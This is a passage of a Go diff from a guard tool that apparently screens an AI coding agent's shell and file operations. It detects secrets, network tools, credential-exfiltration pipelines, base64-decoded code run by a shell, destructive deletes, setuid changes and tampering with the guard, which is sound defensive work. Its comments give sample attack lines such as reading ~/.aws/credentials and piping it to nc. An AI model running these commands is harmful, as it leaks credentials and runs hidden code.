+		if !glob.MatchAny(p, e.cfg.Protect.NoOverwrite) {
+			continue
+		}
+		if _, err := os.Stat(p); err == nil {
+			return Result{
+				Allowed: false,
+				Code:    CodeNoOverwrite,
+				Reason:  "file already exists and matches protect.no_overwrite: " + p,
+			}
+		}
+	}
+	return Result{Allowed: true}
+}
+
+// secretPatterns are deliberately conservative: AWS access key IDs and PEM
+// private key headers. Broader entropy heuristics invite false positives.
+var secretPatterns = []*regexp.Regexp{
+	regexp.MustCompile(`AKIA[0-9A-Z]{16}`),
+	regexp.MustCompile(`-----BEGIN [A-Z ]*PRIVATE KEY-----`),
+}
+
+// evaluateSecretScan denies writes whose content contains a likely secret,
+// unless the target path matches the scan allowlist.
+func (e *Evaluator) evaluateSecretScan(input Input) Result {
+	content := writeContent(input)
+	if content == "" {
+		return Result{Allowed: true}
+	}
+
+	for _, p := range ExtractPaths(input.ToolName, input.ToolInput) {
+		if glob.MatchAny(p, e.cfg.Protect.ScanSecretsAllow) {
+			return Result{Allowed: true}
+		}
+	}
+
+	for _, re := range secretPatterns {
+		if re.MatchString(content) {
+			return Result{Allowed: false, Code: CodeSecret, Reason: "content appears to contain a secret matching " + re.String()}
+		}
+	}
+	return Result{Allowed: true}
+}
+
+func (e *Evaluator) evaluateInvariants(input Input) Result {
+	rule := policy.NewInvariantsRule(&e.cfg.Invariants)
+	rule.Classes = e.tools
+	paths := ExtractPaths(input.ToolName, input.ToolInput)
+
+	// Content for content-based checks: full content for Write, only the
+	// added text for Edit, so a pattern already present elsewhere in the
+	// file doesn't trip a forbid on an unrelated edit.
+	content := writeContent(input)
+
+	for _, p := range paths {
+		decision := rule.Evaluate(input.ToolName, p, content)
+		if !decision.Allowed {
+			return Result{Allowed: false, Code: CodeInvariants, Reason: decision.Reason}
+		}
+	}
+	return Result{Allowed: true}
+}
+
+// requireTestsWarning reports a non-test .go file being written whose
+// _test.go companion neither exists on disk nor is part of this write, or ""
+// when the guard does not apply.
+func (e *Evaluator) requireTestsWarning(input Input) string {
+	paths := ExtractPaths(input.ToolName, input.ToolInput)
+	written := make(map[string]bool, len(paths))
+	for _, p := range paths {
+		written[p] = true
+	}
+
+	for _, p := range paths {
+		if !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") {
+			continue
+		}
+		companion := strings.TrimSuffix(p, ".go") + "_test.go"
+		if written[companion] {
+			continue
+		}
+		if _, err := os.Stat(companion); err == nil {
+			continue
+		}
+		return "no test accompanies " + p + ": expected " + companion + " (rules.require_tests)"
+	}
+	return ""
+}
+
+// evaluateHeredocInvariants runs content invariants against heredoc bodies
+// redirected into files via Bash, treating them as Write-tool content.
+func (e *Evaluator) evaluateHeredocInvariants(input Input) Result {
+	cmdStr, ok := input.ToolInput["command"].(string)
+	if !ok {
+		return Result{Allowed: true}
+	}
+
+	hw, ok := parser.ExtractHeredocWrite(cmdStr)
+	if !ok {
+		return Result{Allowed: true}
+	}
+
+	rule := policy.NewInvariantsRule(&e.cfg.Invariants)
+	decision := rule.Evaluate("Write", hw.Target, hw.Body)
+	if !decision.Allowed {
+		return Result{Allowed: false, Code: CodeInvariants, Reason: decision.Reason}
+	}
+	return Result{Allowed: true}
+}
+
+// evaluateDeleteInvariants runs coexistence invariants against rm targets so
+// deleting one half of a declared pairing is caught.
+func (e *Evaluator) evaluateDeleteInvariants(input Input) Result {
+	cmdStr, ok := input.ToolInput["command"].(string)
+	if !ok {
+		return Result{Allowed: true}
+	}
+
+	rule := policy.NewInvariantsRule(&e.cfg.Invariants)
+	for _, target := range deleteTargets(cmdStr) {
+		decision := rule.EvaluateDelete(target)
+		if !decision.Allowed {
+			return Result{Allowed: false, Code: CodeInvariants, Reason: decision.Reason}
+		}
+	}
+	return Result{Allowed: true}
+}
+
+// teeTargets returns the file arguments of tee segments in a command, which
+// are write destinations.
+func teeTargets(cmd string) []string {
+	var targets []string
+	for _, seg := range splitCommandSegments(cmd) {
+		if extractCommandName(seg) != "tee" {
+			continue
+		}
+		tokens := tokenize(strings.TrimSpace(seg))
+		i := 0
+		for i < len(tokens) && tokens[i] != "tee" {
+			i++
+		}
+		for _, tok := range tokens[i+1:] {
+			if !strings.HasPrefix(tok, "-") {
+				targets = append(targets, tok)
+			}
+		}
+	}
+	return targets
+}
+
+// inPlaceEditTargets returns the file arguments of sed -i / perl -i
+// segments. In-place editors modify their file arguments directly, so the
+// targets are write destinations even though Bash is not a write tool.
+func inPlaceEditTargets(cmd string) []string {
+	var targets []string
+	for _, seg := range splitCommandSegments(cmd) {
+		name := extractCommandName(seg)
+		if name != "sed" && name != "perl" {
+			continue
+		}
+		tokens := tokenize(strings.TrimSpace(seg))
+		i := 0
+		for i < len(tokens) && tokens[i] != name {
+			i++
+		}
+
+		inPlace := false
+		var args []string
+		for _, tok := range tokens[i+1:] {
+			if strings.HasPrefix(tok, "-") {
+				if strings.HasPrefix(tok, "-i") || tok == "--in-place" || strings.HasPrefix(tok, "--in-place=") {
+					inPlace = true
+				}
+				continue
+			}
+			args = append(args, tok)
+		}
+		// The first positional argument is the script; the rest are files.
+		if !inPlace || len(args) < 2 {
+			continue
+		}
+		targets = append(targets, args[1:]...)
+	}
+	return targets
+}
+
+// deleteTargets returns the non-flag arguments of rm segments in a command.
+func deleteTargets(cmd string) []string {
+	var targets []string
+	for _, seg := range splitCommandSegments(cmd) {
+		if extractCommandName(seg) != "rm" {
+			continue
+		}
+		tokens := tokenize(strings.TrimSpace(seg))
+		for _, tok := range tokens[1:] {
+			if !strings.HasPrefix(tok, "-") {
+				targets = append(targets, tok)
+			}
+		}
+	}
+	return targets
+}
+
+func (e *Evaluator) evaluateHooks(input Input, prior []Warning) Result {
+	paths := ExtractPaths(input.ToolName, input.ToolInput)
+
+	cwd, err := os.Getwd()
+	if err != nil {
+		cwd = ""
+	}
+
+	var reasons []string
+	for _, w := range prior {
+		reasons = append(reasons, w.Message)
+	}
+
+	hookInput := HookInput{
+		ToolName:      input.ToolName,
+		ToolInput:     input.ToolInput,
+		Paths:         paths,
+		WorkingDir:    cwd,
+		Stage:         HookStagePost,
+		TriggerReason: strings.Join(reasons, "; "),
+	}
+
+	var warnings []Warning
+
+	for i := range e.cfg.Hooks {
+		hookCfg := &e.cfg.Hooks[i]
+
+		if !e.hookMatcher.Matches(hookCfg, input.ToolName, paths) {
+			continue
+		}
+
+		result := e.hookExec.Execute(hookCfg, hookInput)
+
+		if !result.Allowed {
+			return Result{
+				Allowed: false,
+				Code:    CodeExternalHook,
+				Reason:  hookCfg.Name + ": " + result.Reason,
+			}
+		}
+
+		for _, w := range result.Warnings {
+			warnings = append(warnings, Warning{Source: hookCfg.Name, Message: hookCfg.Name + ": " + w.Message})
+		}
+	}
+
+	return Result{Allowed: true, Warnings: warnings}
+}
+
+func (e *Evaluator) evaluateReminders() Result {
+	if len(e.cfg.Reminders) == 0 {
+		return Result{Allowed: true}
+	}
+
+	// Increment task count
+	e.stateManager.IncrementTaskCount()
+
+	// Check if any reminders should trigger
+	triggered := e.stateManager.CheckReminders(e.cfg.Reminders)
+
+	// Save state (ignore errors, non-critical)
+	_ = e.stateManager.Save()
+
+	result := Result{Allowed: true}
+	for _, t := range triggered {
+		result.Warnings = append(result.Warnings, Warning{Source: "reminder", Message: t})
+	}
+	return result
+}
+
+// withReminders combines a result with any triggered reminders and one-time
+// configuration warnings. Should be called for all allowed operations to
+// ensure reminders are tracked.
+func (e *Evaluator) withReminders(result Result) Result {
+	if !result.Allowed {
+		return result
+	}
+
+	reminderResult := e.evaluateReminders()
+	result.Warnings = append(result.Warnings, reminderResult.Warnings...)
+	if cfgWarn := e.configWarning(); cfgWarn != "" {
+		result.Warnings = append(result.Warnings, Warning{Source: "config", Message: cfgWarn})
+	}
+	return result
+}
+
+// configWarning surfaces enabled-but-empty rule blocks once per evaluator,
+// since an enabled rule with no configuration silently allows everything.
+func (e *Evaluator) configWarning() string {
+	if e.warnedConfig {
+		return ""
+	}
+	e.warnedConfig = true
+
+	var warnings []string
+	if e.cfg.Rules.Scope && len(e.cfg.Scope.Allow) == 0 && len(e.cfg.Scope.Block) == 0 {
+		warnings = append(warnings, "scope enabled but no patterns configured - it has no effect")
+	}
+	if e.cfg.Rules.Versioning && versioningUnconfigured(&e.cfg.Versioning) {
+		warnings = append(warnings, "versioning enabled but no constraints configured - it has no effect")
+	}
+	return strings.Join(warnings, "; ")
+}
+
+// versioningUnconfigured reports whether the versioning config carries no
+// constraints at all.
+func versioningUnconfigured(cfg *config.VersioningConfig) bool {
+	return cfg.Workflow == "" &&
+		cfg.Tool == "" &&
+		len(cfg.Operations.Block) == 0 &&
+		len(cfg.Branches.Protected) == 0 &&
+		commitUnconfigured(&cfg.Commit)
+}
+
+func commitUnconfigured(c *config.CommitConfig) bool {
+	return c.MaxLength == 0 &&
+		c.MinLength == 0 &&
+		c.MaxFiles == 0 &&
+		!c.RequireUppercase &&
+		!c.NoPeriod &&
+		!c.RequirePeriod &&
+		!c.SingleLine &&
+		!c.ForbidColons &&
+		!c.Conventional &&
+		c.PrefixPattern == "" &&
+		!c.RequireSigned &&
+		len(c.AllowedScopes) == 0 &&
+		!c.RequireScope
+}
+
+func (e *Evaluator) isToolBlocked(tool string) bool {
+	for _, t := range e.cfg.Tools.Block {
+		if strings.EqualFold(t, tool) {
+			return true
+		}
+	}
+	return false
+}
+
+func (e *Evaluator) isToolAllowed(tool string) bool {
+	if len(e.cfg.Tools.Allow) == 0 {
+		return true
+	}
+	for _, t := range e.cfg.Tools.Allow {
+		if strings.EqualFold(t, tool) {
+			return true
+		}
+	}
+	return false
+}
+
+func (e *Evaluator) isCommandBlocked(cmd string) string {
+	// Exception entries (!pattern) carve out of the block list and win
+	// regardless of their position in the list.
+	for _, pattern := range e.cfg.Commands.Block {
+		pattern = stripBlockComment(pattern)
+		if !strings.HasPrefix(pattern, "!") {
+			continue
+		}
+		if matchesBlockPattern(cmd, strings.TrimPrefix(pattern, "!")) {
+			return ""
+		}
+	}
+
+	for _, pattern := range e.cfg.Commands.Block {
+		pattern = stripBlockComment(pattern)
+		if pattern == "" || strings.HasPrefix(pattern, "!") {
+			continue
+		}
+		if matchesBlockPattern(cmd, pattern) {
+			return pattern
+		}
+	}
+	return ""
+}
+
+// stripBlockComment removes a trailing ` #comment` annotation from a block
+// list entry, so lists can be documented inline.
+func stripBlockComment(pattern string) string {
+	if idx := strings.Index(pattern, " #"); idx != -1 {
+		pattern = pattern[:idx]
+	}
+	return strings.TrimSpace(pattern)
+}
+
+// matchesBlockPattern checks a command against a single block entry.
+func matchesBlockPattern(cmd, pattern string) bool {
+	// Patterns with spaces (like "rm -rf /") use substring matching
+	if strings.Contains(pattern, " ") {
+		return strings.Contains(cmd, pattern)
+	}
+
+	// Single-word patterns match only in command position
+	return isCommandInPosition(cmd, pattern)
+}
+
+// isCommandInPosition checks if pattern appears as an actual command
+// (first token of a pipeline/chain segment), not as an argument.
+func isCommandInPosition(cmd, pattern string) bool {
+	// Split by command separators: |, &&, ||, ;
+	// We iterate through segments to find command positions
+	segments := splitCommandSegments(cmd)
+
 	for _, seg := range segments {
 		seg = strings.TrimSpace(seg)
 		if seg == "" {
 			continue
 		}
 
-		// Extract the command (first token)
-		command := extractCommandName(seg)
-		if command == pattern {
+		// Extract the command (first token)
+		command := extractCommandName(seg)
+		if command == pattern {
+			return true
+		}
+
+		// The wrappers themselves stay blockable by name (e.g. "sudo")
+		for _, w := range leadingWrappers(seg) {
+			if w == pattern {
+				return true
+			}
+		}
+
+		// xargs runs its argument as the effective command
+		if command == "xargs" && xargsCommand(seg) == pattern {
+			return true
+		}
+
+		// sh -c "..." runs the quoted script; analyze it recursively
+		if inner := shellWrappedScript(seg); inner != "" && isCommandInPosition(inner, pattern) {
+			return true
+		}
+	}
+	return false
+}
+
+// shellScripters are shells whose -c flag runs an inline script string.
+var shellScripters = map[string]bool{
+	"sh": true, "bash": true, "zsh": true,
+}
+
+// shellWrappedScript returns the inline script of a `sh|bash|zsh -c "..."`
+// segment, or "" when the segment is not a shell -c invocation.
+func shellWrappedScript(segment string) string {
+	if !shellScripters[extractCommandName(segment)] {
+		return ""
+	}
+
+	tokens := tokenize(strings.TrimSpace(segment))
+	for i, tok := range tokens {
+		if tok == "-c" && i+1 < len(tokens) {
+			return tokens[i+1]
+		}
+	}
+	return ""
+}
+
+// findSetuidOperation returns a description of the first chmod/install
+// invocation that would set setuid or setgid bits, or "" when none does.
+// Shell -c wrappers are analyzed recursively.
+func findSetuidOperation(cmd string) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		tokens := tokenize(strings.TrimSpace(seg))
+		switch extractCommandName(seg) {
+		case "chmod":
+			for _, tok := range tokens[1:] {
+				if strings.HasPrefix(tok, "-") {
+					continue
+				}
+				if modeSetsSetuid(tok) {
+					return "chmod " + tok
+				}
+				break // first non-flag token is the mode
+			}
+		case "install":
+			for i, tok := range tokens {
+				var mode string
+				if tok == "-m" && i+1 < len(tokens) {
+					mode = tokens[i+1]
+				} else if strings.HasPrefix(tok, "-m") && len(tok) > 2 {
+					mode = tok[2:]
+				}
+				if mode != "" && modeSetsSetuid(mode) {
+					return "install -m " + mode
+				}
+			}
+		}
+		if script := shellWrappedScript(seg); script != "" {
+			if op := findSetuidOperation(script); op != "" {
+				return op
+			}
+		}
+	}
+	return ""
+}
+
+// modeSetsSetuid reports whether a chmod-style mode argument grants setuid
+// or setgid bits, in either symbolic (u+s) or octal (4755) form.
+func modeSetsSetuid(mode string) bool {
+	// Symbolic: an s added or assigned (u+s, g+s, a=rws)
+	if strings.ContainsAny(mode, "sS") && strings.ContainsAny(mode, "+=") {
+		return true
+	}
+
+	// Octal: four digits where the leading digit includes the 4 (setuid)
+	// or 2 (setgid) bit
+	if len(mode) != 4 {
+		return false
+	}
+	for _, c := range mode {
+		if c < '0' || c > '7' {
+			return false
+		}
+	}
+	lead := mode[0] - '0'
+	return lead&4 != 0 || lead&2 != 0
+}
+
+// networkCommands are programs whose primary purpose is outbound network
+// access. rsync is handled separately: it only counts when given a remote.
+var networkCommands = map[string]bool{
+	"curl": true, "wget": true, "nc": true, "ncat": true,
+	"ssh": true, "scp": true, "ftp": true, "telnet": true,
+}
+
+// findNetworkCommand returns the first network tool found in command
+// position, skipping tools on the allow list. Shell -c wrappers are
+// analyzed recursively.
+func findNetworkCommand(cmd string, allow []string) string {
+	allowed := make(map[string]bool, len(allow))
+	for _, a := range allow {
+		allowed[a] = true
+	}
+
+	for _, seg := range splitCommandSegments(cmd) {
+		name := extractCommandName(seg)
+		if allowed[name] {
+			continue
+		}
+		if networkCommands[name] {
+			return name
+		}
+		if name == "rsync" && rsyncHasRemote(seg) {
+			return "rsync"
+		}
+		if script := shellWrappedScript(seg); script != "" {
+			if network := findNetworkCommand(script, allow); network != "" {
+				return network
+			}
+		}
+	}
+	return ""
+}
+
+// rsyncHasRemote reports whether an rsync segment addresses a remote host
+// (host:path, user@host:path, or rsync:// URL).
+func rsyncHasRemote(segment string) bool {
+	for _, tok := range tokenize(strings.TrimSpace(segment))[1:] {
+		if strings.HasPrefix(tok, "-") {
+			continue
+		}
+		if strings.HasPrefix(tok, "rsync://") || strings.Contains(tok, ":") {
+			return true
+		}
+	}
+	return false
+}
+
+// isExfilPipeline detects a secret-reading stage piped into a network stage,
+// e.g. `env | curl -d @- url` or `cat ~/.aws/credentials | nc host port`.
+// Both stages are required, so `env | grep PATH` does not match.
+func isExfilPipeline(cmd string) bool {
+	secretSeen := false
+	for _, seg := range splitCommandSegments(cmd) {
+		if isSecretReadStage(seg) {
+			secretSeen = true
+			continue
+		}
+		if secretSeen && networkCommands[extractCommandName(seg)] {
 			return true
 		}
 	}
 	return false
 }
 
-// splitCommandSegments splits a shell command by |, &&, ||, ;
-func splitCommandSegments(cmd string) []string {
-	var segments []string
-	var current strings.Builder
-	i := 0
+// sensitivePathFragments mark file arguments that hold credentials.
+var sensitivePathFragments = []string{
+	".aws", ".ssh", ".env", ".netrc", "credentials",
+}
 
-	for i < len(cmd) {
-		ch := cmd[i]
+// isSecretReadStage checks whether a segment dumps the environment or reads a
+// credential file.
+func isSecretReadStage(segment string) bool {
+	switch extractCommandName(segment) {
+	case "env", "printenv":
+		return true
+	}
 
-		switch ch {
-		case '|':
-			segments = append(segments, current.String())
-			current.Reset()
-			// Skip || (treat as single separator)
-			if i+1 < len(cmd) && cmd[i+1] == '|' {
-				i++
+	tokens := tokenize(strings.TrimSpace(segment))
+	if len(tokens) == 0 {
+		return false
+	}
+	for _, tok := range tokens[1:] {
+		if strings.HasPrefix(tok, "-") {
+			continue
+		}
+		for _, fragment := range sensitivePathFragments {
+			if strings.Contains(tok, fragment) {
+				return true
 			}
-		case '&':
-			if i+1 < len(cmd) && cmd[i+1] == '&' {
-				segments = append(segments, current.String())
-				current.Reset()
-				i++ // Skip second &
-			} else {
-				// Background &, still part of current segment
-				current.WriteByte(ch)
+		}
+	}
+	return false
+}
+
+// destructiveCommands are programs that irreversibly remove or overwrite data.
+var destructiveCommands = map[string]bool{
+	"rm": true, "rmdir": true, "shred": true, "truncate": true, "dd": true,
+}
+
+// findDestructiveOperation checks each command segment for a destructive
+// program, including commands nested inside find -exec/-execdir clauses.
+// Returns the offending command name, or "" if none found.
+func findDestructiveOperation(cmd string) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		name := extractCommandName(seg)
+		if destructiveCommands[name] {
+			return name
+		}
+		if name == "find" {
+			for _, nested := range findExecCommands(seg) {
+				if inner := extractCommandName(nested); destructiveCommands[inner] {
+					return "find -exec " + inner
+				}
 			}
-		case ';':
-			segments = append(segments, current.String())
-			current.Reset()
-		case '\'', '"':
-			// Skip quoted strings entirely
-			quote := ch
-			current.WriteByte(ch)
+		}
+		if name == "xargs" {
+			if inner := xargsCommand(seg); destructiveCommands[inner] {
+				return "xargs " + inner
+			}
+		}
+		if script := shellWrappedScript(seg); script != "" {
+			if op := findDestructiveOperation(script); op != "" {
+				return name + " -c " + op
+			}
+		}
+	}
+	return ""
+}
+
+// xargsCommand returns the command an xargs segment would run, skipping
+// xargs' own flags and the values of flags that take one (-I, -n, -P, ...).
+func xargsCommand(segment string) string {
+	tokens := tokenize(strings.TrimSpace(segment))
+	i := 0
+	for i < len(tokens) && tokens[i] != "xargs" {
+		i++
+	}
+	if i == len(tokens) {
+		return ""
+	}
+	i++
+
+	valueFlags := map[string]bool{
+		"-I": true, "-n": true, "-P": true, "-L": true,
+		"-s": true, "-d": true, "-a": true, "-E": true,
+	}
+	for i < len(tokens) {
+		tok := tokens[i]
+		if !strings.HasPrefix(tok, "-") {
+			return tok
+		}
+		if valueFlags[tok] {
+			i += 2
+			continue
+		}
+		i++
+	}
+	return ""
+}
+
+// findExecCommands extracts the nested commands from find's -exec/-execdir
+// clauses. Each clause runs from the flag up to its `;` or `+` terminator.
+func findExecCommands(segment string) []string {
+	tokens := tokenize(strings.TrimSpace(segment))
+	var commands []string
+	i := 0
+	for i < len(tokens) {
+		if tokens[i] != "-exec" && tokens[i] != "-execdir" {
+			i++
+			continue
+		}
+		i++
+		var nested []string
+		for i < len(tokens) && tokens[i] != ";" && tokens[i] != "\\;" && tokens[i] != "+" {
+			nested = append(nested, tokens[i])
 			i++
-			for i < len(cmd) && cmd[i] != quote {
-				if cmd[i] == '\\' && i+1 < len(cmd) {
-					current.WriteByte(cmd[i])
-					i++
+		}
+		if len(nested) > 0 {
+			commands = append(commands, strings.Join(nested, " "))
+		}
+	}
+	return commands
+}
+
+// shallowRecursiveDelete returns the target of a recursive rm that sits
+// fewer than maxDepth levels below the workspace root, or "" if none.
+func shallowRecursiveDelete(cmd string, maxDepth int) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		if extractCommandName(seg) != "rm" {
+			continue
+		}
+
+		tokens := tokenize(strings.TrimSpace(seg))
+		recursive := false
+		var targets []string
+		for _, tok := range tokens[1:] {
+			if strings.HasPrefix(tok, "-") {
+				if strings.ContainsAny(tok, "rR") {
+					recursive = true
+				}
+				continue
+			}
+			targets = append(targets, tok)
+		}
+		if !recursive {
+			continue
+		}
+
+		for _, target := range targets {
+			if deleteDepth(target) < maxDepth {
+				return target
+			}
+		}
+	}
+	return ""
+}
+
+// deleteDepth counts path components of a delete target relative to the
+// workspace root. "." and the root itself are depth 0; targets outside the
+// workspace are treated as depth 0 (the workspace rule also covers those).
+func deleteDepth(target string) int {
+	clean := filepath.Clean(target)
+	if clean == "." || clean == string(filepath.Separator) {
+		return 0
+	}
+
+	if filepath.IsAbs(clean) {
+		cwd, err := os.Getwd()
+		if err != nil {
+			return 0
+		}
+		rel, err := filepath.Rel(cwd, clean)
+		if err != nil || strings.HasPrefix(rel, "..") {
+			return 0
+		}
+		if rel == "." {
+			return 0
+		}
+		clean = rel
+	}
+
+	return len(strings.Split(clean, string(filepath.Separator)))
+}
+
+// isEncodedExec detects pipelines that decode an encoded payload (base64, hex)
+// and feed the result into an interpreter, e.g. `echo <b64> | base64 -d | sh`.
+// Both a decoder stage and a later interpreter stage are required, so a benign
+// `base64 file > out` does not match.
+func isEncodedExec(cmd string) bool {
+	decoderSeen := false
+	for _, seg := range splitCommandSegments(cmd) {
+		if isDecoderStage(seg) {
+			decoderSeen = true
+			continue
+		}
+		if decoderSeen && isInterpreterStage(seg) {
+			return true
+		}
+	}
+	return false
+}
+
+// isDecoderStage checks if a segment decodes base64/hex data.
+func isDecoderStage(segment string) bool {
+	tokens := tokenize(strings.TrimSpace(segment))
+	if len(tokens) == 0 {
+		return false
+	}
+	switch extractCommandName(segment) {
+	case "base64":
+		for _, tok := range tokens[1:] {
+			if tok == "-d" || tok == "-D" || tok == "--decode" {
+				return true
+			}
+		}
+	case "xxd":
+		for _, tok := range tokens[1:] {
+			if tok == "-r" {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// interpreterCommands are programs that execute piped-in code.
+var interpreterCommands = map[string]bool{
+	"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true,
+	"python": true, "python3": true, "perl": true, "ruby": true, "node": true,
+}
+
+// allowedDevTargets are the device files safe to redirect output to.
+var allowedDevTargets = map[string]bool{
+	"/dev/null":   true,
+	"/dev/stdout": true,
+	"/dev/stderr": true,
+}
+
+// findRecursivePerms returns a description of the first recursive
+// chmod/chown/chgrp invocation (-R or --recursive), or "" when none is
+// found. Shell -c wrappers are analyzed recursively.
+func findRecursivePerms(cmd string) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		name := extractCommandName(seg)
+		if name == "chmod" || name == "chown" || name == "chgrp" {
+			tokens := tokenize(strings.TrimSpace(seg))
+			recursive := false
+			target := ""
+			positional := 0
+			for _, tok := range tokens[1:] {
+				if tok == "--recursive" {
+					recursive = true
+					continue
 				}
-				if i < len(cmd) {
-					current.WriteByte(cmd[i])
-					i++
+				if strings.HasPrefix(tok, "-") && len(tok) > 1 {
+					if !strings.HasPrefix(tok, "--") && strings.Contains(tok[1:], "R") {
+						recursive = true
+					}
+					continue
+				}
+				// First positional is the mode or owner, the second
+				// is the target path.
+				positional++
+				if positional == 2 {
+					target = tok
 				}
 			}
-			if i < len(cmd) {
-				current.WriteByte(cmd[i])
+			if recursive {
+				if target != "" {
+					return name + " -R " + target
+				}
+				return name + " -R"
+			}
+		}
+		if script := shellWrappedScript(seg); script != "" {
+			if op := findRecursivePerms(script); op != "" {
+				return op
 			}
-		default:
-			current.WriteByte(ch)
 		}
-		i++
 	}
+	return ""
+}
 
-	if current.Len() > 0 {
-		segments = append(segments, current.String())
+// findSelfTamper returns a description of the first command that would
+// disable or degrade watchman itself, or "" when none is found: setting the
+// WATCHMAN_DISABLE kill switch, rewriting or deleting the Claude
+// settings.json that wires the hook, or stripping the execute bit from a
+// watchman binary. Shell -c wrappers are analyzed recursively.
+func findSelfTamper(cmd string) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		seg = strings.TrimSpace(seg)
+		tokens := tokenize(seg)
+		for _, tok := range tokens {
+			if strings.HasPrefix(tok, "WATCHMAN_DISABLE=") {
+				return "sets WATCHMAN_DISABLE"
+			}
+		}
+		name := extractCommandName(seg)
+		if strings.Contains(seg, "settings.json") {
+			switch name {
+			case "rm", "mv", "sed", "perl", "truncate":
+				return name + " targets the Claude settings.json"
+			}
+			for _, target := range parser.RedirectTargets(seg) {
+				if strings.Contains(target, "settings.json") {
+					return "redirect overwrites the Claude settings.json"
+				}
+			}
+		}
+		if name == "chmod" && chmodStripsExec(tokens) {
+			return "chmod removes execute bit from the watchman binary"
+		}
+		if script := shellWrappedScript(seg); script != "" {
+			if op := findSelfTamper(script); op != "" {
+				return op
+			}
+		}
+	}
+	return ""
+}
+
+// chmodStripsExec reports whether a tokenized chmod invocation removes the
+// execute bit from a target that looks like the watchman binary.
+func chmodStripsExec(tokens []string) bool {
+	stripsExec := false
+	hitsWatchman := false
+	for _, tok := range tokens[1:] {
+		if tok == "-x" || strings.HasSuffix(tok, "-x") || tok == "000" {
+			stripsExec = true
+			continue
+		}
+		base := filepath.Base(tok)
+		if base == "watchman" {
+			hitsWatchman = true
+		}
+	}
+	return stripsExec && hitsWatchman
+}
+
+// findDeviceWrite returns a /dev path the command writes to via output
+// redirection or dd of=, or "" when no device is written. Anything under
+// /dev beyond the allowed trio can destroy a disk or terminal.
+func findDeviceWrite(cmd string) string {
+	for _, target := range parser.RedirectTargets(cmd) {
+		if strings.HasPrefix(target, "/dev/") && !allowedDevTargets[target] {
+			return target
+		}
+	}
+
+	for _, seg := range splitCommandSegments(cmd) {
+		if extractCommandName(seg) != "dd" {
+			continue
+		}
+		for _, tok := range tokenize(strings.TrimSpace(seg)) {
+			if !strings.HasPrefix(tok, "of=") {
+				continue
+			}
+			target := strings.TrimPrefix(tok, "of=")
+			if strings.HasPrefix(target, "/dev/") && !allowedDevTargets[target] {
+				return target
+			}
+		}
 	}
+	return ""
+}
+
+// dangerousEnvVars can redirect library or binary resolution to attacker-
+// controlled paths and are blocked by commands.block_dangerous_env.
+var dangerousEnvVars = map[string]bool{
+	"LD_PRELOAD":      true,
+	"LD_LIBRARY_PATH": true,
+	"PATH":            true,
+}
+
+// findDisallowedEnv returns a deny reason when a segment's leading
+// VAR=value assignments set a dangerous variable or, with a non-empty
+// allowlist, one outside it. "" means every assignment is permitted.
+func findDisallowedEnv(cmd string, allow []string, blockDangerous bool) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		parsed := parser.Parse(strings.TrimSpace(seg))
+		for name := range parsed.Env {
+			if blockDangerous && dangerousEnvVars[name] {
+				return "sets dangerous environment variable " + name + " (commands.block_dangerous_env)"
+			}
+			if len(allow) > 0 && !containsString(allow, name) {
+				return "environment variable " + name + " is not in commands.env_allow"
+			}
+		}
+	}
+	return ""
+}
+
+func containsString(list []string, s string) bool {
+	for _, item := range list {
+		if item == s {
+			return true
+		}
+	}
+	return false
+}
+
+// findInstallWithScripts returns the first package-manager install segment
+// that could execute install-time scripts, or "" when every install disables
+// them. npm and yarn (install/add/ci) must pass --ignore-scripts. pip must
+// restrict itself to prebuilt wheels via --only-binary=:all:; flags like
+// --no-build-isolation still build sdists and run setup.py, so they do not
+// count as disabling scripts.
+func findInstallWithScripts(cmd string) string {
+	for _, seg := range splitCommandSegments(cmd) {
+		seg = strings.TrimSpace(seg)
+		parsed := parser.Parse(seg)
+
+		switch parsed.Program {
+		case "npm":
+			if parsed.Subcommand != "install" && parsed.Subcommand != "i" && parsed.Subcommand != "ci" {
+				continue
+			}
+			if !parsed.HasFlag("--ignore-scripts") {
+				return seg
+			}
+		case "yarn":
+			if parsed.Subcommand != "install" && parsed.Subcommand != "add" {
+				continue
+			}
+			if !parsed.HasFlag("--ignore-scripts") {
+				return seg
+			}
+		case "pip", "pip3":
+			if len(parsed.Args) == 0 || parsed.Args[0] != "install" {
+				continue
+			}
+			if v, ok := parsed.FlagValue("--only-binary"); !ok || v != ":all:" {
+				return seg
+			}
+		}
+	}
+	return ""
+}
+
+// isInterpreterStage checks if a segment runs an interpreter.
+func isInterpreterStage(segment string) bool {
+	return interpreterCommands[extractCommandName(segment)]
+}
 
-	return segments
+// splitCommandSegments splits a shell command by |, &&, ||, ;
+func splitCommandSegments(cmd string) []string {
+	return parser.SplitSegments(cmd)
 }
 
 // extractCommandName extracts the actual command from a segment.
@@ -405,15 +1844,70 @@ func extractCommandName(segment string) string {
 	segment = strings.TrimSpace(segment)
 	tokens := tokenize(segment)
 
-	for _, tok := range tokens {
+	i := 0
+	lastWrapper := ""
+	for i < len(tokens) {
+		tok := tokens[i]
 		// Skip environment variable assignments (VAR=value)
 		if strings.Contains(tok, "=") && !strings.HasPrefix(tok, "-") {
+			i++
+			continue
+		}
+		// Wrapper commands run their trailing arguments as the effective
+		// command; skip the wrapper plus its options and numeric arguments
+		// (timeout durations, nice levels) to reach it.
+		if wrapperCommands[tok] {
+			lastWrapper = tok
+			i++
+			for i < len(tokens) && (strings.HasPrefix(tokens[i], "-") || startsWithDigit(tokens[i])) {
+				i++
+			}
 			continue
 		}
 		// Return first non-assignment token as the command
 		return tok
 	}
-	return ""
+	// A wrapper with nothing to run (bare `env`, `sudo`) is itself the
+	// command.
+	return lastWrapper
+}
+
+// wrapperCommands run another command given by their trailing arguments,
+// after their own options. The wrapped command, not the wrapper, is the one
+// policy checks should see.
+var wrapperCommands = map[string]bool{
+	"timeout": true,
+	"nice":    true,
+	"ionice":  true,
+	"env":     true,
+	"stdbuf":  true,
+	"nohup":   true,
+	"sudo":    true,
+}
+
+// leadingWrappers returns the chain of wrapper commands at the front of a
+// segment, so the wrappers themselves stay matchable by name.
+func leadingWrappers(segment string) []string {
+	var wrappers []string
+	for _, tok := range tokenize(strings.TrimSpace(segment)) {
